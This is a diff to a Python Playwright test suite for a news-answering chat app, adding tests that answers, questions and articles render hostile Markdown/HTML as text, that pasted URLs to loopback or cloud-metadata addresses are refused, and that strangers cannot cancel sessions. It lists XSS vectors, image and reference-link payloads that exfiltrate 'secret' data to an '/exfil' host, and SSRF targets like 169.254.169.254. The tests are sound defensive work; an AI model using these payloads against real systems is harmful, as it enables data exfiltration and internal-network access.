@@ -13,6 +13,7 @@ import time
 from pathlib import Path
 from urllib.parse import urlsplit
 
+import httpx
 import pytest
 from playwright.sync_api import expect, sync_playwright
 
@@ -105,32 +106,49 @@ def test_highlight_marks_two_separate_sentences_and_cuts_long_passages():
 
 
 def test_markers_become_links_to_their_turns_cards():
-    assert render.link_markers("A [1]. B [2][3].", 4) == (
-        "A [[1]](#src-4-1). B [[2]](#src-4-2)[[3]](#src-4-3).")
-    assert render.link_markers("[1](https://e.com) [[2]](#src-1-2)", 1) == "[1](https://e.com) [[2]](#src-1-2)"
-    assert render.answer_markdown("x [12]", 3) == "x [[12]](#src-3-12)"
+    assert render.answer_html("A [1]. B [2][3].", 4) == (
+        'A <a href="#src-4-1">[1]</a>. B <a href="#src-4-2">[2]</a><a href="#src-4-3">[3]</a>.')
+    assert render.answer_html("x [12] [123] [a]", 3) == 'x <a href="#src-3-12">[12]</a> [123] [a]'
+    assert render.chat_html("a question [1]") == "a question [1]"  # markers link only in answers
 
 
-def test_safe_markdown_neutralises_html_images_and_script_links():
-    text = render.safe_markdown(
-        f"{XSS} <script>alert(5)</script> ![pixel](https://tracker.example/p.gif) "
-        "[js](javascript:alert(6)) [data](data:text/html,x) [[1]](javascript:alert(7)) [ok](https://example.com/ok) **b**")
-    assert "<" not in text and "&lt;img src=x onerror=alert(1)>" in text
-    assert "tracker" not in text and "pixel" in text
-    assert "javascript" not in text and "data:" not in text
-    assert "[ok](https://example.com/ok)" in text and "**b**" in text
+HOSTILE_MARKDOWN = [
+    "![pixel](https://tracker.example/p.gif)", "![grafik][g]\n\n[g]: http://h/exfil?q=secret",
+    "[js](javascript:alert(6))", "[data](data:text/html,x)", "[[1]](javascript:alert(7))", "<http://h/auto>",
+    "http://h/bare www.h.com a@h.com", XSS, "<script>alert(5)</script>", "&lt;img src=x&gt; &#60;img src=x&#62;",
+    "<!-- <img src=x> -->", "| a | ![t](http://h/t.png) |\n|---|---|", "```mermaid\ngraph TD; A[\"<img src=x>\"]\n```",
+    "<svg><image href=http://h/s></svg>", "<style>@import url(http://h/c)</style>", "[ok](https://example.com/ok)",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
+def test_chat_html_shows_any_markup_as_text(text):
+    shown = render.answer_html(text, 1)
+    assert "<" not in shown.replace("<br>", "").replace('<a href="#src-1-1">[1]</a>', ""), shown
+    assert render.chat_text(shown) == "\n".join(line.strip() for line in text.splitlines())
+
+
+def test_chat_html_keeps_emphasis_code_and_line_breaks_only():
+    shown = render.chat_html("**tebal [1]** dan *miring*, `warta ingest`\n\n2 * 3 * 4 and a*b*c **<b>x</b>**")
+    assert shown == ("<strong>tebal [1]</strong> dan <em>miring</em>, <code>warta ingest</code><br><br>"
+                     "2 * 3 * 4 and a*b*c <strong>&lt;b&gt;x&lt;/b&gt;</strong>")
+    assert render.answer_html("**a [2]**", 5) == '<strong>a <a href="#src-5-2">[2]</a></strong>'
+    assert render.text_html("Retrieval <b>1 s</b> · ![x](http://h/x)") == (
+        "<span>Retrieval &lt;b&gt;1 s&lt;/b&gt; · ![x](http://h/x)</span>")
 
 
 def test_plain_history_turns_chatbot_value_into_plain_strings():
     value = [
-        {"role": "user", "content": [{"type": "text", "text": "why &lt;x>?"}], "metadata": None, "options": None},
-        {"role": "assistant", "content": [{"type": "text", "text": "Because [[1]](#src-1-1)."}], "metadata": None},
+        {"role": "user", "content": [{"type": "text", "text": render.chat_html("why <x> & **y**?")}], "metadata": None,
+         "options": None},
+        {"role": "assistant", "content": [{"type": "text", "text": render.answer_html("Because [1].", 1)}],
+         "metadata": None},
         {"role": "assistant", "content": "details", "metadata": {"title": "Details"}},
         {"role": "user", "content": ""},
         {"role": "user", "content": "and Google?"},
     ]
     assert render.plain_history(value) == [
-        {"role": "user", "content": "why <x>?"}, {"role": "assistant", "content": "Because [1]."},
+        {"role": "user", "content": "why <x> & **y**?"}, {"role": "assistant", "content": "Because [1]."},
         {"role": "user", "content": "and Google?"},
     ]
 
@@ -168,7 +186,6 @@ def test_library_rows_search_titles_and_ingest_report_escapes():
     assert "<td>&lt;img src=x onerror=alert(1)&gt;.txt</td><td>failed: bad &lt;b&gt;</td>" in report
     assert "<td>✓</td><td>ok.md</td><td>added: T&lt;i&gt;tle (1 passage)</td>" in report
     assert render.status_html("Removed “<x>”.") == '<p class="lib-message">Removed “&lt;x&gt;”.</p>'
-    assert render.md_escape("a_b *c* [d](e) <f>") == "a\\_b \\*c\\* \\[d\\]\\(e\\) &lt;f&gt;"
 
 
 def test_pick_language_follows_toggle_then_browser():
@@ -313,7 +330,8 @@ def free_port() -> int:
 def web(tmp_path_factory, models_dir, embedder):
     """The real server on a free loopback port, over a data dir with the seed and an XSS-titled article."""
     root = tmp_path_factory.mktemp("web")
-    settings = make_settings(root / "data", models_dir)
+    # The test site is on loopback, which pasted URLs may not reach by default (see test_pasted_urls_...).
+    settings = make_settings(root / "data", models_dir, ingest={"allow_private_urls": True})
     assistant = Assistant(settings, embeddings=embedder)
     extra = root / "extra.jsonl"
     extra.write_text(json.dumps(XSS_ARTICLE))
@@ -492,6 +510,37 @@ def test_upload_then_ask_then_remove(open_page, web, site, tmp_path):
 
 
 @pytest.mark.browser
+def test_pasted_urls_cannot_reach_this_machine_or_its_network(browser, web, site):
+    """With the default settings, the Library's URL box refuses URLs that lead to loopback (in any spelling,
+    the web UI's own /config included) or a private network, names each, and fetches nothing."""
+    settings = web["settings"].updated({"ingest": {"allow_private_urls": False}})
+    assistant = Assistant(settings, index=web["assistant"].index, embeddings=web["assistant"].embeddings)
+    port = free_port()
+    demo = serve(settings, host="127.0.0.1", port=port, assistant=assistant, block=False)
+    try:
+        site_port = urlsplit(site.base).port
+        page_url = site.add("/berita/ssrf", f"<html><body><article><h1>Rahasia</h1><p>{'Isi intranet. ' * 20}</p>"
+                                             "</article></body></html>")
+        urls = {page_url: "127.0.0.1 is a loopback address",
+                f"http://2130706433:{site_port}/berita/ssrf": "2130706433 resolves to 127.0.0.1, a loopback address",
+                f"http://127.0.0.1:{port}/config": "127.0.0.1 is a loopback address",
+                "http://169.254.169.254/latest/meta-data/": "169.254.169.254 is a link-local address"}
+        before = web["assistant"].index.catalog.counts()
+        ui = Page(browser, f"http://127.0.0.1:{port}/")
+        page = ui.page
+        page.get_by_role("tab", name="Library").click()
+        page.locator("#lib-urls textarea").fill("\n".join(urls))
+        page.locator("#lib-add-btn").click()
+        status = page.locator("#lib-status")
+        for url, reason in urls.items():
+            expect(status.locator("tr", has_text=url)).to_contain_text(f"failed: refused: {reason}")
+        assert site.hits == [] and web["assistant"].index.catalog.counts() == before
+        ui.close()
+    finally:
+        demo.close()
+
+
+@pytest.mark.browser
 def test_untrusted_titles_and_text_render_as_text(open_page):
     ui = open_page()
     page = ui.page
@@ -510,6 +559,90 @@ def test_untrusted_titles_and_text_render_as_text(open_page):
         "els => els.map(e => e.getAttribute('href'))")
     assert all(h.startswith(("http://", "https://", "#src-")) for h in hrefs), hrefs
     time.sleep(0.5)  # a late onerror would show up as a dialog (checked by the fixture)
+
+
+def hostile_markup(base: str) -> str:
+    """Every Markdown/HTML form that could make a browser fetch ``base/...`` or run script, one per line."""
+    e = f"{base}/exfil"
+    return "\n\n".join([  # blank lines: a reference definition cannot interrupt a paragraph
+        "OpenAI memutus kerja sama dengan Scale AI [1].",
+        f"![grafik][g] ![inline]({e}/inline.png) [klik][r] <{e}/autolink> {e}/bare www.example.com",
+        f"[g]: {e}/ref-image?q=secret\n[r]: {e}/ref-link",
+        f'<img src="{e}/img"> <iframe src="{e}/iframe"></iframe> <svg><image href="{e}/svg"/></svg>',
+        f'<video poster="{e}/poster"></video> <audio src="{e}/audio"></audio> <link rel="stylesheet" href="{e}/css">',
+        f'<style>@import url("{e}/import.css"); body {{ background: url("{e}/bg") }}</style>',
+        f'<picture><source srcset="{e}/srcset"></picture> <object data="{e}/object"></object> <embed src="{e}/embed">',
+        f'<input type="image" src="{e}/input"> <table background="{e}/table-bg"><tr><td>x</td></tr></table>',
+        f'&lt;img src="{e}/entity"&gt; &#60;img src="{e}/entity2"&#62; &#x3C;img src="{e}/entity3"&#x3E;',
+        f"![data](data:image/svg+xml,%3Csvg%3E%3Cimage%20href='{e}/data'/%3E%3C/svg%3E) [js](javascript:alert(8))",
+        f'<a href="javascript:alert(9)">tautan</a> <!-- <img src="{e}/comment"> --> [rel](/{e}/relative)',
+        f"| kolom | gambar |\n|---|---|\n| a | ![t]({e}/table.png) |",
+        f"```mermaid\ngraph TD; A[\"<img src='{e}/mermaid'>\"] --> B\n```",
+        "**tebal** dan *miring* [2]",
+    ])
+
+
+HOSTILE_TAGS = "img, iframe, svg, video, audio, source, picture, object, embed, link, style, input, table, script"
+
+
+@pytest.mark.browser
+def test_markup_in_answers_questions_and_articles_shows_as_text_and_loads_nothing(browser, models_dir, embedder,
+                                                                                     site, tmp_path):
+    """An answer (here from a scripted chat model standing in for an `openai` backend), a question and an
+    article can carry any Markdown or HTML: the page shows it as text and requests nothing."""
+    from tests.conftest import scripted_chat
+
+    payload = hostile_markup(site.base)
+    settings = make_settings(tmp_path / "data", models_dir, answer={"backend": "openai"})
+    assistant = Assistant(settings, embeddings=embedder, llm=scripted_chat(payload, delay_s=0.01))
+    article = {"id": "cabai", "lang": "id", "outlet": "Harian Uji", "date": "2025-03-02",
+               "title": f"Harga cabai naik ![t]({site.base}/exfil/title.png) <img src={site.base}/exfil/title2>",
+               "text": ("Harga cabai rawit di Bandung naik menjadi Rp90.000 per kilogram pekan ini. "
+                        f"Pedagang menyebut pasokan dari Garut berkurang. ![p][p]\n[p]: {site.base}/exfil/passage\n"
+                        "Dinas Perdagangan berjanji menggelar operasi pasar.")}
+    extra = tmp_path / "cabai.jsonl"
+    extra.write_text(json.dumps(article))
+    assert not Ingestor(settings, index=assistant.index, embedder=embedder).ingest([str(SEED), str(extra)]).failed
+    port = free_port()
+    demo = serve(settings, host="127.0.0.1", port=port, assistant=assistant, block=False)
+    try:
+        ui = Page(browser, f"http://127.0.0.1:{port}/")
+        page = ui.page
+        exfil_requests: list[str] = []
+        page.on("request", lambda r: exfil_requests.append(r.url) if "/exfil" in r.url else None)
+        ui.ask("Why did OpenAI drop Scale AI?", 1)
+        bot = ui.bot()
+        expect(bot).to_contain_text("![grafik][g]")
+        expect(bot).to_contain_text(f'<img src="{site.base}/exfil/img">')
+        expect(bot).to_contain_text(f"![t]({site.base}/exfil/table.png)")
+        expect(bot).to_contain_text("[g]: http://")
+        expect(bot.locator("strong")).to_have_text("tebal")
+        expect(bot.locator('a[href="#src-1-1"]').first).to_have_text("[1]")
+
+        page.locator("#new-chat-btn").click()
+        question = f"Berapa harga cabai rawit di Bandung? ![q][q] <img src={site.base}/exfil/question>\n" \
+                   f"[q]: {site.base}/exfil/question-ref"
+        ui.ask(question, 1)
+        user = page.locator('#chatbot [data-testid="user"]').last
+        expect(user).to_contain_text("![q][q]")
+        expect(user).to_contain_text(f"<img src={site.base}/exfil/question>")
+        card = page.locator("#sources-panel .src-card", has_text="Harian Uji").first
+        expect(card.locator(".src-title")).to_have_text(article["title"])
+        expect(card.locator(".src-passage")).to_contain_text("![p][p]")
+        page.get_by_role("tab", name="Library").click()
+        expect(page.locator("#lib-table")).to_contain_text("![t](")
+
+        time.sleep(1.0)  # anything the page was going to load has been asked for by now
+        shown = ['#chatbot [data-testid="bot"]', '#chatbot [data-testid="user"]', "#sources-panel",
+                 "#answer-details", "#lib-table [role=gridcell]"]  # not the widgets' own icons and inputs
+        assert page.locator(", ".join(f"{scope} :is({HOSTILE_TAGS})" for scope in shown)).count() == 0
+        hrefs = page.locator("#chatbot a[href]").evaluate_all("els => els.map(e => e.getAttribute('href'))")
+        assert hrefs and all(h.startswith("#src-") for h in hrefs), hrefs
+        assert site.hits_under("/exfil") == [] and exfil_requests == [], (site.hits, exfil_requests)
+        assert ui.dialogs == [] and ui.external == []
+        ui.close()
+    finally:
+        demo.close()
 
 
 @pytest.mark.browser
@@ -557,6 +690,7 @@ def test_login_rejects_a_wrong_password(browser, web, monkeypatch):
         ui = Page(browser, f"http://127.0.0.1:{port}/", wait_for="input[type=password]")
         page = ui.page
         expect(page.locator("#chatbot")).to_have_count(0)
+        expect(page.get_by_text("5 wrong passwords pause logins from your address for 5 min")).to_be_visible()
         user, password = page.get_by_role("textbox", name="username"), page.locator("input[type=password]")
         user.fill("redaksi")
         password.fill("salah")
@@ -567,6 +701,56 @@ def test_login_rejects_a_wrong_password(browser, web, monkeypatch):
         password.fill("rahasia-123")
         page.get_by_role("button", name="Login").click()
         expect(page.locator("#chatbot")).to_be_visible()
+        ui.close()
+    finally:
+        demo.close()
+
+
+@pytest.mark.browser
+def test_nobody_else_can_stop_a_logged_in_users_answer(browser, web, monkeypatch):
+    """Gradio's cancel and heartbeat routes act on a session id without asking for a login. With a login set
+    they need one, so someone who learns a user's session id (from a proxy's log, say) cannot stop that
+    user's answer or close their session, and the user's own Stop and streaming still work."""
+    from tests.conftest import scripted_chat
+
+    monkeypatch.setenv("WARTA_UI_USER", "redaksi")
+    monkeypatch.setenv("WARTA_UI_PASSWORD", "rahasia-123")
+    words = " ".join(f"kata{i}" for i in range(40))
+    settings = web["settings"].updated({"answer": {"backend": "openai"}})
+    assistant = Assistant(settings, index=web["assistant"].index, embeddings=web["assistant"].embeddings,
+                          llm=scripted_chat(f"OpenAI memutus kerja sama dengan Scale AI [1]. {words} selesai.",
+                                            delay_s=0.1))
+    port = free_port()
+    url = f"http://127.0.0.1:{port}/"
+    demo = serve(settings, host="127.0.0.1", port=port, assistant=assistant, block=False)
+    try:
+        ui = Page(browser, url, wait_for="input[type=password]")
+        page = ui.page
+        page.get_by_role("textbox", name="username").fill("redaksi")
+        page.locator("input[type=password]").fill("rahasia-123")
+        page.get_by_role("button", name="Login").click()
+        box = page.locator("#msg textarea")
+        with page.expect_response(lambda r: "/gradio_api/queue/join" in r.url) as joined:
+            box.fill("Why did OpenAI drop Scale AI?")
+            box.press("Enter")
+        session, event_id = joined.value.request.post_data_json, joined.value.json()["event_id"]
+        expect(ui.bot()).to_contain_text("kata1 ")  # streaming
+        with httpx.Client(base_url=url, trust_env=False, timeout=10) as stranger:
+            cancel = stranger.post("gradio_api/cancel", json={"session_hash": session["session_hash"],
+                                                              "fn_index": session["fn_index"], "event_id": event_id})
+            with stranger.stream("GET", f"gradio_api/heartbeat/{session['session_hash']}") as heartbeat:
+                heartbeat_status = heartbeat.status_code
+        ui.wait_answer(1)
+        expect(ui.bot()).to_contain_text("selesai")
+        assert (cancel.status_code, heartbeat_status) == (401, 401), cancel.text
+
+        box.fill("Why did OpenAI drop Scale AI?")  # the user's own Stop still works
+        box.press("Enter")
+        expect(ui.bot()).to_contain_text("kata1 ")
+        page.locator("#stop-btn").click()
+        expect(page.locator("#send-btn")).to_be_visible()
+        time.sleep(1.0)
+        expect(ui.bot()).not_to_contain_text("selesai")
         ui.close()
     finally:
         demo.close()
